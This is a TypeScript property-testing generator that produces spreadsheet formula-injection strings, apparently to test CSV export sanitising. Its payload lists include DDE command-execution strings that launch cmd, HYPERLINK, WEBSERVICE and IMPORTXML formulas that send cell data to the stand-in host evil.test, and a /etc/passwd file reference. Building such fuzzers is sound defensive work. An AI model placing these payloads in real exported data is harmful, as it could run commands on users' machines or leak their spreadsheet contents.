import fc from "fast-check";

/** What a spreadsheet program takes a text for that begins so. */
const STARTS = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠"],
  ...[
    "'=",
    '"=',
    ";=",
    ",=",
    "|",
    "%",
    "\u200B=",
    "\uFEFF=",
    "\u00A0=",
    "==",
    "=+",
  ],
];
const BODIES = [
  ...["1+1", "SUM(A1:Z9)", "cmd|' /C calc'!A0", "MSEXCEL|'\\..\\cmd.exe'!''"],
  ...[
    'HYPERLINK("http://evil.test/?"&A1,"a")',
    'WEBSERVICE("http://evil.test")',
  ],
  ...['IMPORTXML("http://evil.test","//a")', 'DDE("cmd";"/C calc";"a")'],
  ...["'file:///etc/passwd'#$Sheet1.A1", "IFERROR(1/0,A1)", "A1", "1e9"],
  ...["[evil.xlsx]Sheet1!A1", 'REGISTER("a","b")', "</f><f>1+1</f>", "]]>"],
  ...[
    '1,"=2+2",3',
    "1;=2+2;3",
    "1\t=2+2",
    "1\n=2+2\n",
    '"&CHAR(61)&"',
    "_x003D_1",
  ],
];

/** A text that a spreadsheet program might take for a formula, for a link or for several cells. */
export const formulaText: fc.Arbitrary<string> = fc.tuple(
  fc.constantFrom(...STARTS),
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...BODIES) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 8 }) },
  ),
).map((parts) => parts.join(""));

/** So many of them; the same for the same seed. */
export function formulaTexts(count: number, seed = 63): string[] {
  return fc.sample(formulaText, { numRuns: count, seed });
}
